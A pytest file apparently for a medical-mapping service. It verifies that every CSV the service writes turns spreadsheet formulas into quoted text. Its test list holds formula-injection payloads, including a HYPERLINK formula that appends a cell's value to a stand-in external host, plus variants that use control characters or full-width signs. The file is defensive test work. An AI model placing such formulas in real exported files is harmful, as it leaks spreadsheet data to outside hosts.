"""Cells that a spreadsheet would run as formulas arrive as text, in every table that the service writes."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

import fluoromap_service.api
from fluoromap_service.api.http.csv_answers import csv_text
from fluoromap_service.api.results import points, tracks

FORMULAS = [
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_become_text_and_numbers_stay_numbers(formula: str) -> None:
    header, row = _cells(csv_text(("site", "lat_ms", "x_mm"), [(formula, -2.5, None)]))
    assert header == ["site", "lat_ms", "x_mm"]
    assert row == [f"'{formula}", "-2.5", ""]


@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_points_and_tracks_neutralise_sites_and_catheters(formula: str) -> None:
    views = points.PointViews(a=None, b=None)
    point = points.Point(
        site=formula, catheter=formula, electrode=1, x_mm=-1.0, y_mm=None, z_mm=None, covariance_mm2=None, views=views,
        residual_px=points.Residuals(a=None, b=None), ray_angle_deg=None, lat_ms=-3.0, grade="rejected", reasons=[],
    )  # fmt: skip
    row = dict(zip(*_cells(points.points_csv([point])), strict=True))
    assert (row["site"], row["catheter"], row["lat_ms"]) == (f"'{formula}", f"'{formula}", "-3.0")
    pieces = tracks.tracks_csv([("rejected", {"site": formula, "view": "a", "reasons": []})])
    row = dict(zip(*_cells(b"".join(pieces).decode()), strict=True))
    assert row["site"] == f"'{formula}"


def test_no_route_writes_csv_by_itself() -> None:
    """A table that does not pass ``csv_text`` would not be neutralised."""
    for path in Path(fluoromap_service.api.__path__[0]).rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                assert path.name == "csv_answers.py"
